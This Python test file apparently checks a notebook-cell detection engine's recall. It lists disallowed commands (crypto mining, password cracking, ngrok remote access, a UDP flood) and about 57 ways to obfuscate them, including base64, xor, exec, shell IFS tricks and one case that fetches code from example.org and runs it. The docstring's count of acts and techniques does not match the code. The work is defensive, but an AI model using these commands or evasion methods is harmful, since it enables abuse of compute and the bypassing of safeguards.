"""Rewrites of disallowed acts by the techniques that evaders use, each as the cells of one kernel: 12 acts times 40 ways.

All snippets are our own. What wins stands in KNOWN_MISSES with the layer that must catch it; `pytest -s` prints the table.
"""

import base64
import codecs
import json
import zlib
from collections.abc import Callable, Iterator

import pytest

from mutirao.detect.engine import Engine
from mutirao.detect.finding import Level
from mutirao.detect.memory import Memory
from mutirao.detect.pack import default_pack

ENGINE = Engine(default_pack())

ACTS = {
    "mining": ["./xmrig -o stratum+tcp://pool.example.org:3333 -u w", "./t-rex -a kawpow -o eu.example.net:6060 -u w"],
    "password-cracking": ["hashcat -m 0 -a 3 h.txt", "john --wordlist=words.txt hashes.txt"],
    "remote-access": ["/usr/sbin/sshd -D", "ngrok tcp 22"],
    "proxy": ["./v2ray run -c c.json"],
    "p2p": ["aria2c --seed-time=0 magnet:?xt=urn:btih:aa"],
    "dos": ["python3 start.py UDP 203.0.113.7:80 100 60"],
    "deepfake": ["python run.py -s a.jpg -t b.mp4 -o c.mp4 --frame-processor face_swapper"],
    "file-hosting": ["rclone serve http remote: --addr :8080", "filebrowser -r /content -p 8080"],
}


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _halves(text: str) -> tuple[str, str]:
    return text[: len(text) // 2], text[len(text) // 2 :]


def _program(text: str) -> str:
    return f"import os\nos.system({text!r})\n"


def _renamed(command: str) -> list[str]:
    words = command.split()
    at = 1 if words[0].startswith("python") else 0
    return [f"!cp {words[at]} ./worker", "!" + " ".join([*words[:at], "./worker", *words[at + 1 :]])]


WAYS: dict[str, Callable[[str], list[str]]] = {
    "joined strings": lambda c: [f"import os\nos.system({_halves(c)[0]!r} + {_halves(c)[1]!r})"],
    "names in two cells": lambda c: [f"a = {_halves(c)[0]!r}", f"b = {_halves(c)[1]!r}", "!{a + b}"],
    "names in a shell line": lambda c: [f"a = {c.split()[0]!r}", f"b = {c.partition(' ')[2]!r}", "!$a $b"],
    "f-string": lambda c: [f"a = {_halves(c)[0]!r}\nimport os\nos.system(f'{{a}}{_halves(c)[1]}')"],
    "format": lambda c: [f"import os\nos.system('{{}}{{}}'.format({_halves(c)[0]!r}, {_halves(c)[1]!r}))"],
    "named format": lambda c: [f"import os\nos.system('{{a}}{{b}}'.format(a={_halves(c)[0]!r}, b={_halves(c)[1]!r}))"],
    "base64": lambda c: [f"import base64, os\nos.system(base64.b64decode('{_b64(c)}').decode())"],
    "base64 twice": lambda c: [
        f"from base64 import b64decode as d\nimport os\nos.system(d(d('{_b64(_b64(c))}')).decode())"
    ],
    "base85": lambda c: [
        f"import base64, os\nos.system(base64.b85decode({base64.b85encode(c.encode())!r}).decode())"
    ],
    "hex": lambda c: [f"import os\nos.system(bytes.fromhex('{c.encode().hex()}').decode())"],
    "rot13": lambda c: [f"import codecs, os\nos.system(codecs.decode({codecs.encode(c, 'rot13')!r}, 'rot13'))"],
    "reversed": lambda c: [f"import os\nos.system({c[::-1]!r}[::-1])"],
    "characters": lambda c: [f"import os\nos.system(''.join(map(chr, {[ord(x) for x in c]})))"],
    "shifted characters": lambda c: [
        f"import os\nos.system(''.join(chr(ord(x) - 1) for x in {''.join(chr(ord(x) + 1) for x in c)!r}))"
    ],
    "xor": lambda c: [f"import os\nos.system(''.join(chr(x ^ 7) for x in {[ord(x) ^ 7 for x in c]}))"],
    "zlib": lambda c: [
        f"import zlib, base64\nexec(zlib.decompress(base64.b64decode('{base64.b64encode(zlib.compress(_program(c).encode())).decode()}')))"
    ],
    "exec": lambda c: [f"exec({_program(c)!r})"],
    "getattr": lambda c: [f"getattr(__import__('o' + 's'), 'metsys'[::-1])({c!r})"],
    "importlib": lambda c: [f"import importlib\nm = importlib.import_module('subprocess')\nm.call({c!r}, shell=True)"],
    "vars of a module": lambda c: [f"import os\nvars(os)['system']({c!r})"],
    "globals": lambda c: [f"import os\nglobals()['os'].system({c!r})"],
    "sys.modules": lambda c: [f"import sys, os\nsys.modules['os'].system({c!r})"],
    "alias in another cell": lambda c: ["from os import system as go", f"go({c!r})"],
    "function in another cell": lambda c: ["import subprocess\ndef f(x):\n    subprocess.run(x, shell=True)", f"f({c!r})"],
    "lambda": lambda c: [f"import os\nf = lambda x: os.system(x)\nf({c!r})"],
    "partial": lambda c: [f"import functools, os\nf = functools.partial(os.system, {c!r})\nf()"],
    "method": lambda c: [f"import os\nclass A:\n    def go(self, x):\n        os.system(x)\nA().go({c!r})"],
    "thread": lambda c: [f"import os\nfrom threading import Thread\nThread(target=os.system, args=[{c!r}]).start()"],
    "lookup": lambda c: [f"import os\nd = {{'a': {c!r}}}\nos.system(d['a'])"],
    "list item": lambda c: [f"import os\nd = ['ls', {c!r}]\nos.system(d[1])"],
    "environment": lambda c: [f"import os\nos.environ['C'] = {c!r}", "!$C"],
    "written and run": lambda c: [f"%%writefile train.sh\n#!/bin/bash\n{c}", "!chmod +x train.sh", "!./train.sh"],
    "written by Python and run": lambda c: [f"with open('prep', 'w') as f:\n    f.write({c!r})", "!bash prep"],
    "module written and imported": lambda c: [f"%%writefile utils2.py\n{_program(c)}", "import utils2"],
    "heredoc and run": lambda c: [f"%%bash\ncat > /tmp/go.sh <<'EOF'\n{c}\nEOF", "!sh /tmp/go.sh"],
    "read back": lambda c: [f"open('note.txt', 'w').write({c!r})", "import os\nos.system(open('note.txt').read())"],
    "copied": _renamed,
    "quotes in words": lambda c: ["!" + c[:3] + "''" + c[3:]],
    "backslashes": lambda c: ["!" + c[:4] + "\\" + c[4:]],
    "ANSI-C quotes": lambda c: ["%%bash\n$'" + "".join(f"\\x{ord(x):02x}" for x in c.split()[0]) + f"' {c.partition(' ')[2]}"],
    "shell variables": lambda c: [f"%%bash\nA={_halves(c.split()[0])[0]}\nB={_halves(c.split()[0])[1]}\n$A$B {c.partition(' ')[2]}"],
    "decoded in a substitution": lambda c: [f"%%bash\n$(echo {_b64(c)} | base64 -d)"],
    "decoded into eval": lambda c: [f'!eval "$(echo {_b64(c)} | base64 -d)"'],
    "decoded by a here-string": lambda c: [f"!bash <<< '{c}'"],
    "decoded into a file": lambda c: [f"%%bash\necho {_b64(c)} | base64 -d > /tmp/z\nbash /tmp/z"],
    "IFS": lambda c: ["%%bash\n" + c.replace(" ", "${IFS}")],
    "xargs": lambda c: [f"!echo {c.partition(' ')[2]} | xargs {c.split()[0]}"],
    "nested shells": lambda c: [f'!bash -c "sh -c \'{c}\'"'],
    "full-width letters": lambda c: [f"import ｏｓ\nｏｓ.ｓｙｓｔｅｍ({c!r})"],
    "stuffed with comments": lambda c: ["# a lesson on gradient descent\n" * 1500 + f"x = 1\n!{c}\n" + "y = 2\n" * 500],
    "dead code": lambda c: [f"if False:\n    print('nothing')\ntry:\n    import os\n    os.system({c!r})\nexcept OSError:\n    pass"],
    "does not parse": lambda c: [f"def = 3\nprint 'x'\n!{c}"],
    "translate": lambda c: [f"import os\nos.system({c.replace('a', '#')!r}.translate(str.maketrans('#', 'a')))"],
    "regular expression": lambda c: [f"import os, re\nos.system(re.sub('#', '', {'#'.join(c)!r}))"],
    "own loader": lambda c: [f"import marshal\nexec(marshal.loads({b'c' + c.encode()!r}))"],
    "from elsewhere": lambda c: ["import os, requests\nos.system(requests.get('https://example.org/a').text)"],
}  # fmt: skip
KNOWN_MISSES = {
    "own loader": "the watcher: the arguments are clear when the program starts (execve)",
    "from elsewhere": "the watcher: what was fetched is not in the cell; its arguments are clear at execve",
}


def _rewrites() -> Iterator[tuple[str, str, str, list[str]]]:
    for way, rewrite in WAYS.items():
        for category, commands in ACTS.items():
            for command in commands:
                yield way, category, command, rewrite(command)


def _seen(cells: list[str], category: str) -> bool:
    """Some cell is warned about or stopped, as the gate judges them: one by one, the memory handed on as JSON."""
    memory = Memory()
    for code in cells:
        memory = Memory.from_document(json.loads(json.dumps(memory.document())))
        if any(f.category == category and f.level >= Level.WARN for f in ENGINE.scan(code, "python", memory)):
            return True
    return False


def test_nine_of_ten_rewrites_are_seen() -> None:
    """At least 150 rewrites by at least 15 techniques, recall 0.9 or more; those that win are named."""
    table: dict[str, list[bool]] = {}
    for way, category, _, cells in _rewrites():
        table.setdefault(way, []).append(_seen(cells, category))
    for way, results in table.items():
        print(f"{way:28} {sum(results):3} of {len(results)}  {KNOWN_MISSES.get(way, '')}")
    everything = [seen for results in table.values() for seen in results]
    print(f"{'all':28} {sum(everything):3} of {len(everything)}")

    assert len(everything) >= 150
    assert len(table) >= 15
    assert sum(everything) / len(everything) >= 0.9
    assert {way for way, results in table.items() if not all(results)} == set(KNOWN_MISSES)


@pytest.mark.parametrize("act", [c for commands in ACTS.values() for c in commands])
def test_the_plain_act_is_stopped(act: str) -> None:
    assert any(f.level is Level.STOP for f in ENGINE.scan(f"!{act}"))
